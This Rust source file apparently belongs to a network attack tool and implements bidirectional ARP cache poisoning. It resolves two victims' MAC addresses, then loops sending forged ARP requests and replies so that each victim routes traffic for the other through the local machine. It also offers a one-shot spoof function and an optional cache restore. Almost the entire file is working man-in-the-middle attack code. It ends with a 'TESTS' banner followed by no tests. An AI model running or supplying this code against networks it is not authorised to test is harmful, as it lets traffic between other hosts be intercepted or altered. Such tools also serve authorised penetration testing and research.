//! Bidirectional ARP cache poisoning.
//!
//! A session first learns the real MAC of both victims, then keeps telling
//! each victim that the other one lives at the local MAC. Every announcement is
//! a forged request followed by a forged reply: some stacks only update their
//! cache from one of the two.

use std::net::Ipv4Addr;
use std::time::Duration;

use pnet::util::MacAddr;
use thiserror::Error;
use tracing::{debug, info, warn};

use satrap_common::config::EngineConfig;
use satrap_common::network::endpoint::Endpoint;
use satrap_protocols::arp;

use crate::cancel::{self, CancelFlag, Cancelled};
use crate::listener::ReplyListener;
use crate::network::transport::{LinkTransport, ReceiveError, SendError};

const RESTORE_ROUNDS: usize = 3;
const RESTORE_SPACING: Duration = Duration::from_millis(100);

#[derive(Debug, Error)]
pub enum PoisonError {
    #[error("no ARP reply from {victim}, cannot learn its MAC address")]
    ResolutionFailed { victim: Ipv4Addr },
    #[error(transparent)]
    Send(#[from] SendError),
    #[error(transparent)]
    Receive(#[from] ReceiveError),
}

/// Two resolved victims and how to poison them.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PoisonSession {
    pub victim_a: Endpoint,
    pub victim_b: Endpoint,
    pub local_mac: MacAddr,
    pub interval: Duration,
    pub restore_on_stop: bool,
}

impl PoisonSession {
    /// `ip` paired with the local MAC.
    pub fn forged(&self, ip: Ipv4Addr) -> Endpoint {
        Endpoint::new(ip, self.local_mac)
    }
}

/// How the poisoning loop waits between announcements.
pub trait Pacer {
    fn pause(&mut self, interval: Duration, cancel: &CancelFlag) -> Result<(), Cancelled>;
}

/// Sleeps on the calling thread, waking early on cancellation.
#[derive(Debug, Default, Clone, Copy)]
pub struct SleepPacer;

impl Pacer for SleepPacer {
    fn pause(&mut self, interval: Duration, cancel: &CancelFlag) -> Result<(), Cancelled> {
        cancel::cancel_sleep(cancel, interval)
    }
}

pub struct CachePoisoner<'t, T: LinkTransport + ?Sized, P = SleepPacer> {
    transport: &'t mut T,
    listener: ReplyListener,
    cfg: EngineConfig,
    pacer: P,
}

impl<'t, T: LinkTransport + ?Sized> CachePoisoner<'t, T> {
    pub fn new(transport: &'t mut T, cfg: &EngineConfig) -> Self {
        Self {
            transport,
            listener: ReplyListener::from_config(cfg),
            cfg: *cfg,
            pacer: SleepPacer,
        }
    }
}

impl<'t, T: LinkTransport + ?Sized, P: Pacer> CachePoisoner<'t, T, P> {
    pub fn with_pacer<Q: Pacer>(self, pacer: Q) -> CachePoisoner<'t, T, Q> {
        CachePoisoner {
            transport: self.transport,
            listener: self.listener,
            cfg: self.cfg,
            pacer,
        }
    }

    /// Asks the segment who has `victim`, as ourselves, and takes the MAC of
    /// the first reply heard.
    pub fn resolve(&mut self, local: Endpoint, victim: Ipv4Addr) -> Result<MacAddr, PoisonError> {
        let request = arp::encode_request(local, victim);
        self.transport.send(&request, MacAddr::broadcast())?;

        match self.listener.listen(&mut *self.transport)? {
            Some(reply) => {
                debug!("resolved {victim} to {}", reply.sender_hw_addr);
                Ok(reply.sender_hw_addr)
            }
            None => {
                warn!("{victim} did not answer");
                Err(PoisonError::ResolutionFailed { victim })
            }
        }
    }

    /// Resolves both victims, A first.
    pub fn establish(
        &mut self,
        local: Endpoint,
        victim_a: Ipv4Addr,
        victim_b: Ipv4Addr,
    ) -> Result<PoisonSession, PoisonError> {
        let mac_a = self.resolve(local, victim_a)?;
        let mac_b = self.resolve(local, victim_b)?;

        Ok(PoisonSession {
            victim_a: Endpoint::new(victim_a, mac_a),
            victim_b: Endpoint::new(victim_b, mac_b),
            local_mac: local.mac,
            interval: self.cfg.poison_interval,
            restore_on_stop: self.cfg.restore_on_stop,
        })
    }

    /// Poisons until `cancel` is raised and returns the number of completed
    /// cycles. A failed send ends the session on the spot.
    pub fn run(&mut self, session: &PoisonSession, cancel: &CancelFlag) -> Result<u64, PoisonError> {
        info!(
            "poisoning {} <-> {} every {:?}",
            session.victim_a, session.victim_b, session.interval
        );

        let mut cycles = 0;
        while !cancel::is_cancelled(cancel) {
            if !self.cycle(session, cancel)? {
                break;
            }
            cycles += 1;
        }
        info!("poisoning stopped after {cycles} cycle(s)");

        if session.restore_on_stop {
            self.restore(session)?;
        }
        Ok(cycles)
    }

    /// One round in both directions. `false` when a wait was interrupted.
    fn cycle(&mut self, session: &PoisonSession, cancel: &CancelFlag) -> Result<bool, SendError> {
        self.announce(session.forged(session.victim_b.ip), session.victim_a)?;
        if self.pacer.pause(session.interval, cancel).is_err() {
            return Ok(false);
        }
        self.announce(session.forged(session.victim_a.ip), session.victim_b)?;
        if self.pacer.pause(session.interval, cancel).is_err() {
            return Ok(false);
        }
        Ok(true)
    }

    fn announce(&mut self, forged: Endpoint, victim: Endpoint) -> Result<(), SendError> {
        let request = arp::encode_request(forged, victim.ip);
        self.transport.send(&request, victim.mac)?;
        let reply = arp::encode_reply(forged, victim);
        self.transport.send(&reply, victim.mac)?;
        debug!("told {} that {} is at {}", victim.ip, forged.ip, forged.mac);
        Ok(())
    }

    /// Re-announces the genuine mappings to both victims.
    fn restore(&mut self, session: &PoisonSession) -> Result<(), SendError> {
        let (a, b) = (session.victim_a, session.victim_b);
        let idle = cancel::new_flag();

        for round in 0..RESTORE_ROUNDS {
            if round > 0 {
                let _ = self.pacer.pause(RESTORE_SPACING, &idle);
            }
            self.transport.send(&arp::encode_reply(b, a), a.mac)?;
            self.transport.send(&arp::encode_reply(a, b), b.mac)?;
        }
        info!("restored ARP caches of {} and {}", a.ip, b.ip);
        Ok(())
    }
}

/// Sends a single broadcast request claiming `impersonated` is at
/// `local_mac`, asking who has `target`.
pub fn spoof_once<T: LinkTransport + ?Sized>(
    transport: &mut T,
    local_mac: MacAddr,
    impersonated: Ipv4Addr,
    target: Ipv4Addr,
) -> Result<(), SendError> {
    let forged = Endpoint::new(impersonated, local_mac);
    transport.send(&arp::encode_request(forged, target), MacAddr::broadcast())?;
    info!("announced {impersonated} at {local_mac} while asking for {target}");
    Ok(())
}

// ╔════════════════════════════════════════════╗
// ║ ████████╗███████╗███████╗████████╗███████╗ ║
// ║ ╚══██╔══╝██╔════╝██╔════╝╚══██╔══╝██╔════╝ ║
// ║    ██║   █████╗  ███████╗   ██║   ███████╗ ║
// ║    ██║   ██╔══╝  ╚════██║   ██║   ╚════██║ ║
// ║    ██║   ███████╗███████║   ██║   ███████║ ║
// ║    ╚═╝   ╚══════╝╚══════╝   ╚═╝   ╚══════╝ ║
// ╚════════════════════════════════════════════╝
